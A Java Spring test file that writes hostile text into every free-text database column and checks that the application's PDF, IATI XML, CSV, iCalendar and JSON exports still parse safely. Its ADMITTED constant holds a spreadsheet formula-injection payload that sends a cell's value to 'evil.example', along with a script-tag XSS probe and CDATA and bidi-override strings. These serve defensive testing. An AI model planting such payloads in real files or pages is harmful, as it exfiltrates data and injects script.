package org.entente.opendata;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import com.jayway.jsonpath.JsonPath;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import javax.xml.XMLConstants;
import javax.xml.transform.stream.StreamSource;
import javax.xml.validation.SchemaFactory;
import net.fortuna.ical4j.data.CalendarBuilder;
import net.fortuna.ical4j.model.Calendar;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.entente.definition.Definitions;
import org.entente.identity.AccessTokens;
import org.entente.identity.Accounts;
import org.entente.testing.EntenteTest;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/**
 * The renderer sweep (issue 16, finding 3): the nastiest text the edge admits, and the text stored
 * before the edge refused control characters and lone surrogates (written here straight into the
 * database), in every text column of every table, renders as a PDF that PDFBox reads, an IATI file
 * valid against its XSD, CSV files Commons CSV reads with no cell starting a formula, iCalendar
 * files ical4j reads, and JSON from every GET operation of the OpenAPI description.
 *
 * <p>The text columns come from the schema ({@code INFORMATION_SCHEMA.COLUMNS}); a text column this
 * class neither fills nor names with the reason it is not free text fails the sweep, so a new text
 * field cannot be forgotten.
 */
@EntenteTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RendererSweepTest {

  static final String CHARTER = OpenDataFixtures.CHARTER;
  static final String GROUP = "river-commission";

  /** What the edge admits, at its worst; it starts a formula. */
  static final String ADMITTED =
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") <script>alert('x')</script> & \"q\" 'a'"
          + " ]]> <![CDATA[ \u202Eevil\u202C \u200F 🚢𝔸 e\u0301 Ələt ŞşÇçĞğİıÖöÜü @cmd\nline two";

  /** What was stored before the edge refused it. */
  static final String BEFORE_THE_RULE = "\u0000\uD800\u0007\u001B\u007F\u0085\uFFFE\uDC00\r";

  /** Marks that the nasty text reached an output. */
  static final String MARK = "HYPERLINK";

  /** The value written into a text column: starts with a formula, has every nasty part early. */
  static final String NASTY = "=" + "1+2 " + BEFORE_THE_RULE + ADMITTED + " " + "W".repeat(300);

  /** The longest text the records take (a title has at most 500 characters). */
  static final int LONGEST = 480;

  /** Text columns that are not free text, each with the reason. */
  static final Map<String, String> NOT_FREE_TEXT = new TreeMap<>();

  /** JSON keys whose values are codes, not text (in JSON columns). */
  static final List<String> CODE_KEYS = List.of("kind", "role", "status");

  static {
    String key = "a key, checked against a pattern on every write since it was added";
    String code = "one of a fixed set of values, read into an enum";
    String party = "a party's code, one of the charter's parties";
    String username = "a username, the identity of an account";
    String hash = "a hash or fingerprint computed by the application";
    for (String column :
        List.of(
            "account.username",
            "action_item.owner_username",
            "agreement_approval.approved_by",
            "agreement_content.created_by",
            "calendar_feed.username",
            "import_job.started_by",
            "notification.username",
            "reminder_preference.username")) {
      NOT_FREE_TEXT.put(column, username);
    }
    for (String column :
        List.of(
            "account.party",
            "account.origin_party",
            "action_item.origin_party",
            "agreement.disputed_by",
            "agreement.origin_party",
            "agreement.parties",
            "agreement_approval.party",
            "area.origin_party",
            "article.origin_party",
            "charter.origin_party",
            "clause.origin_party",
            "co_chair.party_code",
            "commitment.origin_party",
            "dialogue_platform.origin_party",
            "foundation_document.origin_party",
            "history_entry.origin_party",
            "indicator.origin_party",
            "meeting.origin_party",
            "meeting_participant.party",
            "milestone.origin_party",
            "obligation_event.origin_party",
            "obligation_rule.origin_party",
            "party.code",
            "party.origin_party",
            "principle.origin_party",
            "project.origin_party",
            "working_group.origin_party")) {
      NOT_FREE_TEXT.put(column, party);
    }
    for (String column :
        List.of(
            "account.password_hash",
            "agreement.fingerprint",
            "agreement_agreed.fingerprint",
            "agreement_approval.fingerprint",
            "agreement_content.fingerprint",
            "calendar_feed.secret_hash",
            "charter.definition_sha256",
            "personal_access_token.token_hash",
            "personal_access_token.token_prefix")) {
      NOT_FREE_TEXT.put(column, hash);
    }
    for (String column :
        List.of(
            "agreement.subject_key",
            "agenda_item.commitment_key",
            "area.code",
            "article.code",
            "charter.code",
            "clause.code",
            "commitment.code",
            "dialogue_platform.code",
            "foundation_document.code",
            "history_entry.code",
            "import_job.charter",
            "import_job.group_key",
            "indicator.area_key",
            "indicator.code",
            "indicator_commitment.commitment_key",
            "milestone.code",
            "obligation_event.code",
            "obligation_event.deliverable",
            "obligation_event.subject",
            "obligation_rule.applies_to",
            "obligation_rule.clause_code",
            "obligation_rule.code",
            "obligation_rule.deliverable",
            "history_entry.deliverable",
            "history_entry.subject",
            "principle.code",
            "project.code",
            "working_group.code")) {
      NOT_FREE_TEXT.put(column, key);
    }
    for (String column :
        List.of(
            "account.classification",
            "account.roles",
            "action_item.classification",
            "action_item.status",
            "agreement.classification",
            "agreement.state",
            "agreement.subject_type",
            "area.classification",
            "article.classification",
            "calendar_feed.kind",
            "charter.classification",
            "charter.languages",
            "charter.text_language",
            "clause.classification",
            "commitment.classification",
            "dialogue_platform.classification",
            "dialogue_platform.status",
            "foundation_document.classification",
            "history_entry.classification",
            "history_entry.kind",
            "import_job.kind",
            "import_job.status",
            "indicator.classification",
            "indicator.direction",
            "indicator_value.kind",
            "meeting.body_kind",
            "meeting.classification",
            "meeting.status",
            "meeting_participant.attendance",
            "membership.group_kind",
            "milestone.classification",
            "milestone.status",
            "obligation_event.classification",
            "obligation_event.kind",
            "obligation_event.source",
            "obligation_rule.anchor",
            "obligation_rule.classification",
            "obligation_rule.event_kind",
            "obligation_rule.period",
            "obligation_rule.recurrence",
            "party.classification",
            "personal_access_token.scope",
            "principle.classification",
            "project.classification",
            "project.stage",
            "project_financing.currency",
            "project_financing.status",
            "working_group.classification")) {
      NOT_FREE_TEXT.put(column, code);
    }
    NOT_FREE_TEXT.put("meeting.time_zone", "a time-zone id, checked against the JDK's zones");
    NOT_FREE_TEXT.put("party.time_zone", "a time-zone id, checked against the JDK's zones");
    NOT_FREE_TEXT.put(
        "agreement_content.content",
        "a version's canonical content, fingerprinted: rewriting it is tampering, which the"
            + " agreement's fingerprint check reports");
    NOT_FREE_TEXT.put(
        "import_job.report", "the application's own JSON report of an import job (counts)");
    NOT_FREE_TEXT.put(
        "joint_statement.translation_sources",
        "the application's own JSON state of a statement's translations (a language tag, a moment"
            + " and digests of source texts), written only by translations.TranslationState");
    NOT_FREE_TEXT.put(
        "milestone.translation_sources",
        "the application's own JSON state of a milestone's title translations (V35), written only"
            + " through translations.TranslationState");
    NOT_FREE_TEXT.put(
        "indicator.translation_sources",
        "the application's own JSON state of an indicator's name, unit and definition translations"
            + " (V37), written only through translations.TranslationState");
    NOT_FREE_TEXT.put(
        "project.translation_sources",
        "the application's own JSON state of a project's title and description translations (V34),"
            + " written only through translations.TranslationState");
    NOT_FREE_TEXT.put(
        "meeting.translation_sources",
        "the application's own JSON state of a meeting's title and minutes translations (V36),"
            + " written only through translations.TranslationState");
    for (String column :
        List.of(
            "agenda_item.translation_source",
            "meeting_decision.translation_source",
            "action_item.translation_source")) {
      NOT_FREE_TEXT.put(
          column,
          "the application's own JSON state of a meeting item's text translations (V36), written"
              + " only through translations.TranslationState");
    }
  }

  /** Tables the application keeps for itself, with nothing a renderer shows. */
  static final List<String> INTERNAL_TABLES =
      List.of(
          "flyway_schema_history",
          "spring_session",
          "spring_session_attributes",
          "audit_event",
          "audit_head",
          "login_throttle",
          "setup_token");

  static final JsonMapper JSON = JsonMapper.builder().build();

  @Autowired MockMvc mvc;
  @Autowired Accounts accounts;
  @Autowired AccessTokens tokens;
  @Autowired Definitions definitions;
  @Autowired JdbcClient jdbc;

  OpenDataFixtures fixtures;
  final List<String> calendars = new ArrayList<>();

  @BeforeAll
  void nastyTextEverywhere() throws Exception {
    fixtures = new OpenDataFixtures(mvc, accounts, tokens, definitions, jdbc).create();
    // an action item, so that calendars hold one
    MockHttpServletResponse item =
        as(
                "fd.member",
                post("/api/meetings/" + fixtures.publicMeeting + "/action-items")
                    .contentType(MediaType.APPLICATION_JSON)
                    .content(
                        "{\"title\":\"Send the survey\",\"ownerOrganization\":\"Organization of"
                            + " fd.member\",\"dueOn\":\"2026-12-20\"}"))
            .getResponse();
    for (String body :
        List.of(
            "{\"kind\":\"person\"}",
            "{\"kind\":\"group\",\"charter\":\"" + CHARTER + "\",\"group\":\"" + GROUP + "\"}")) {
      MockHttpServletResponse created =
          as(
                  "fd.member",
                  post("/api/me/calendars").contentType(MediaType.APPLICATION_JSON).content(body))
              .getResponse();
      assertThat(created.getStatus()).as(created.getContentAsString()).isEqualTo(201);
      String url = JsonPath.read(created.getContentAsString(), "$.url");
      calendars.add(url.substring("http://localhost".length()));
    }
    assertThat(item.getStatus()).as("action item: " + item.getContentAsString()).isLessThan(300);

    Map<String, Map<String, Integer>> columns = textColumns();
    for (var table : columns.entrySet()) {
      for (var column : table.getValue().entrySet()) {
        String name = table.getKey() + "." + column.getKey();
        if (NOT_FREE_TEXT.containsKey(name)) {
          continue;
        }
        fill(table.getKey(), column.getKey(), column.getValue());
      }
    }
    for (String named : NOT_FREE_TEXT.keySet()) {
      String[] parts = named.split("\\.");
      assertThat(columns.getOrDefault(parts[0], Map.of()))
          .as("a column named as not free text is a text column of the schema: " + named)
          .containsKey(parts[1]);
    }
  }

  /** Every text column of the application's tables, with its length. */
  private Map<String, Map<String, Integer>> textColumns() {
    Map<String, Map<String, Integer>> columns = new TreeMap<>();
    jdbc.sql(
            "select c.table_name, c.column_name, c.character_maximum_length"
                + " from information_schema.columns c join information_schema.tables t"
                + " on t.table_schema = c.table_schema and t.table_name = c.table_name"
                + " where c.table_schema = 'public' and t.table_type = 'BASE TABLE'"
                + " and lower(c.data_type) in ('character varying', 'character large object',"
                + " 'character', 'json', 'text')")
        .query(
            (org.springframework.jdbc.core.RowCallbackHandler)
                rs -> {
                  if (!INTERNAL_TABLES.contains(rs.getString(1))) {
                    long length = rs.getLong(3);
                    columns
                        .computeIfAbsent(rs.getString(1), t -> new TreeMap<>())
                        .put(
                            rs.getString(2),
                            length <= 0 || length > 100_000 ? 100_000 : (int) length);
                  }
                });
    assertThat(columns).containsKeys("project", "milestone", "meeting", "indicator_value");
    return columns;
  }

  /**
   * Writes the nasty text into every stored value of a column: a JSON value (a text in several
   * languages, leads, partners) gets it in each of its texts, other values become it.
   */
  private void fill(String table, String column, int length) {
    List<String> values =
        jdbc.sql(
                "select distinct "
                    + column
                    + " from "
                    + table
                    + " where "
                    + column
                    + " is not null")
            .query(String.class)
            .list();
    for (String value : values) {
      String nasty;
      JsonNode json = json(value);
      if (json != null) {
        nasty = JSON.writeValueAsString(nastyJson(json, null));
      } else {
        nasty = NASTY.substring(0, Math.min(Math.min(length, LONGEST), NASTY.length()));
      }
      jdbc.sql("update " + table + " set " + column + " = ? where " + column + " = ?")
          .params(nasty, value)
          .update();
    }
  }

  private static JsonNode json(String value) {
    String v = value.strip();
    if (!v.startsWith("{") && !v.startsWith("[")) {
      return null;
    }
    try {
      return JSON.readTree(v);
    } catch (RuntimeException e) {
      return null;
    }
  }

  private static JsonNode nastyJson(JsonNode node, String key) {
    if (node instanceof ObjectNode object) {
      ObjectNode copy = JSON.createObjectNode();
      object.properties().forEach(e -> copy.set(e.getKey(), nastyJson(e.getValue(), e.getKey())));
      return copy;
    }
    if (node instanceof ArrayNode array) {
      ArrayNode copy = JSON.createArrayNode();
      array.forEach(n -> copy.add(nastyJson(n, null)));
      return copy;
    }
    if (node.isString() && !CODE_KEYS.contains(key)) {
      return StringNode.valueOf(NASTY.substring(0, Math.min(LONGEST, NASTY.length())));
    }
    return node;
  }

  private org.springframework.test.web.servlet.MvcResult as(
      String user, MockHttpServletRequestBuilder request) throws Exception {
    if (user != null) {
      request.header("Authorization", "Bearer " + fixtures.token.get(user));
    }
    return mvc.perform(request).andReturn();
  }

  private MockHttpServletResponse ok(String user, String url, String language) throws Exception {
    MockHttpServletRequestBuilder request = get(url);
    if (language != null) {
      request.header("Accept-Language", language);
    }
    MockHttpServletResponse response = as(user, request).getResponse();
    assertThat(response.getStatus())
        .as(user + " " + url + ": " + response.getContentAsString())
        .isEqualTo(200);
    return response;
  }

  @Test
  void theAnnualReportIsAPdfThatReads() throws Exception {
    for (String user : List.of("fd.member", "fd.cleared", "admin")) {
      for (String language : List.of("en", "az")) {
        byte[] pdf =
            ok(user, "/api/charters/" + CHARTER + "/report.pdf", language).getContentAsByteArray();
        try (PDDocument document = Loader.loadPDF(pdf)) {
          String text = new PDFTextStripper().getText(document);
          assertThat(text).as(user + " " + language).contains(MARK).contains("Ələt");
        }
      }
    }
  }

  @Test
  void theIatiFileIsValidAgainstItsSchema() throws Exception {
    String xml = ok(null, "/api/charters/" + CHARTER + "/iati.xml", null).getContentAsString();
    SchemaFactory factory = SchemaFactory.newInstance(XMLConstants.W3C_XML_SCHEMA_NS_URI);
    factory
        .newSchema(getClass().getResource("/iati-2.03/iati-activities-schema.xsd"))
        .newValidator()
        .validate(new StreamSource(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8))));
    assertThat(xml).contains(MARK).contains("Ələt").contains("&lt;script&gt;");
  }

  @Test
  void everyCsvReadsBackAndNoCellStartsAFormula() throws Exception {
    Map<String, String> files = new LinkedHashMap<>();
    for (String type : OpenData.types()) {
      String url = "/api/charters/" + CHARTER + "/open-data/" + type + ".csv";
      files.put(url, ok(null, url, null).getContentAsString());
    }
    String group = "/api/charters/" + CHARTER + "/working-groups/" + GROUP;
    for (String url :
        List.of(
            group + "/projects.csv",
            group + "/roadmap/milestones.csv",
            "/api/indicators/" + fixtures.publicIndicator + "/values.csv")) {
      files.put(url, ok("fd.member", url, null).getContentAsString());
    }
    int marked = 0;
    for (var file : files.entrySet()) {
      try (CSVParser parser =
          CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(file.getValue()))) {
        for (CSVRecord record : parser) {
          for (String cell : record) {
            if (!cell.isEmpty() && !cell.matches("-?[0-9]+(\\.[0-9]+)?([eE][+-]?[0-9]+)?")) {
              assertThat("=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20".indexOf(cell.charAt(0)))
                  .as(file.getKey() + ": " + cell.substring(0, Math.min(40, cell.length())))
                  .isNegative();
            }
            assertThat(cell).as(file.getKey()).doesNotContain("\u0000").doesNotContain("\uD800");
            if (cell.startsWith("'=1+2") && cell.contains(MARK)) {
              marked++;
            }
          }
        }
      }
    }
    assertThat(marked).as("cells with the nasty text").isGreaterThan(files.size());
  }

  @Test
  void everyCalendarParses() throws Exception {
    for (String url : calendars) {
      String ics = ok(null, url, null).getContentAsString();
      Calendar calendar = new CalendarBuilder().build(new StringReader(ics));
      assertThat(calendar.getComponents()).as(url).isNotEmpty();
      assertThat(ics).as(url).contains(MARK);
    }
  }

  @Test
  void everyJsonOperationAnswersJsonThatParses() throws Exception {
    String docs = ok(null, "/v3/api-docs", null).getContentAsString();
    Map<String, Object> paths = JsonPath.read(docs, "$.paths");
    Map<String, String> values =
        Map.of("charter", CHARTER, "group", GROUP, "area", "water", "type", "projects");
    Map<String, String> ids =
        Map.of(
            "/api/projects/", fixtures.publicProject,
            "/api/milestones/", fixtures.publicMilestone,
            "/api/indicators/", fixtures.publicIndicator,
            "/api/meetings/", fixtures.publicMeeting);
    int parsed = 0;
    List<String> skipped = new ArrayList<>();
    for (String path : paths.keySet()) {
      if (!(paths.get(path) instanceof Map<?, ?> operations) || !operations.containsKey("get")) {
        continue;
      }
      String url = path;
      for (var v : values.entrySet()) {
        url = url.replace("{" + v.getKey() + "}", v.getValue());
      }
      for (var id : ids.entrySet()) {
        if (url.startsWith(id.getKey() + "{id}")) {
          url = url.replace("{id}", id.getValue());
        }
      }
      if (url.contains("{")) {
        skipped.add(path);
        continue;
      }
      for (String user : List.of("fd.member", "admin")) {
        MockHttpServletResponse response = as(user, get(url)).getResponse();
        assertThat(response.getStatus())
            .as(user + " " + url + ": " + response.getContentAsString())
            .isLessThan(500);
        String type = response.getContentType();
        if (response.getStatus() == 200 && type != null && type.contains("json")) {
          // read as a client reads it: the UTF-8 bytes
          JSON.readTree(response.getContentAsByteArray());
          parsed++;
        }
      }
    }
    assertThat(parsed).as("JSON answers parsed (skipped: " + skipped + ")").isGreaterThan(20);
    String dump =
        ok(null, "/api/charters/" + CHARTER + "/open-data.json", null).getContentAsString();
    assertThat(dump).contains(MARK);
  }
}
